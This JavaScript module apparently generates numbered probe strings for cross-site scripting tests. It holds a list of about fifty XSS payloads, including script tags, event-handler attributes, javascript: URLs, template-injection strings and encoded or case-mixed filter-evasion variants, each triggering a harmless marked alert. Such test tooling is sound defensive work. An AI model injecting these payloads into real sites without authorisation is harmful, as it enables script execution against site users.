// Texts that are scripts where somebody takes them for anything but text. `#` is the number by which one tells that it ran.
export const PAYLOADS = 200

const CALLS = ['alert(#)', 'inert(#)', 'top.alert(#)', 'window["al"+"ert"](#)']

const TEXTS = [
  '<script>@</script>',
  '<ScRiPt >@</sCrIpT>',
  '<script>@//',
  '</script><script>@</script>',
  '</textarea><script>@</script>',
  '</title><img src=x onerror=@>',
  '<img src=x onerror=@>',
  '<img src=x onerror="@">',
  '<img/src=x/onerror=@>',
  '"><img src=x onerror=@>',
  "'><img src=x onerror=@>",
  '" autofocus onfocus=@ x="',
  "' onmouseover=@ x='",
  '` onmouseover=@ `',
  '<svg onload=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x>',
  '<math><mtext></table><img src=x onerror=@>',
  '<body onload=@>',
  '<details open ontoggle=@>x</details>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@>',
  '<iframe src="javascript:@"></iframe>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<object data="javascript:@"></object>',
  '<embed src="javascript:@">',
  '<a href="javascript:@">x</a>',
  '<form action="javascript:@"><button>x</button></form>',
  '<base href="javascript:@//">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<link rel=stylesheet href="javascript:@">',
  '<style>x{background:url("javascript:@")}</style>',
  '<div style="background:url(javascript:@)">',
  '<marquee onstart=@>x</marquee>',
  'javascript:@',
  'JaVaScRiPt:@',
  'data:text/html,<script>@</script>',
  '{{constructor.constructor("@")()}}',
  '{{$el.ownerDocument.defaultView.@}}',
  '${@}',
  '#{@}',
  '<%= @ %>',
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;script&#62;@&#60;/script&#62;',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '%3Cscript%3E@%3C/script%3E',
  '＜script＞@＜/script＞',
  '[x](javascript:@)',
  '<img src=x:x onerror\u00a0=@>'
]

/** The n-th text, none longer than this: one that is too long gives way to a shorter one. */
export function payload(n, longest) {
  for (let i = 0; i < TEXTS.length; i++) {
    const at = n + i * 7
    const call = CALLS[Math.floor(at / TEXTS.length) % CALLS.length].replace('#', n)
    const text = TEXTS[at % TEXTS.length].replaceAll('@', () => call)
    if (text.length <= longest) return text
  }
  return `javascript:alert(${n})`.slice(0, longest)
}
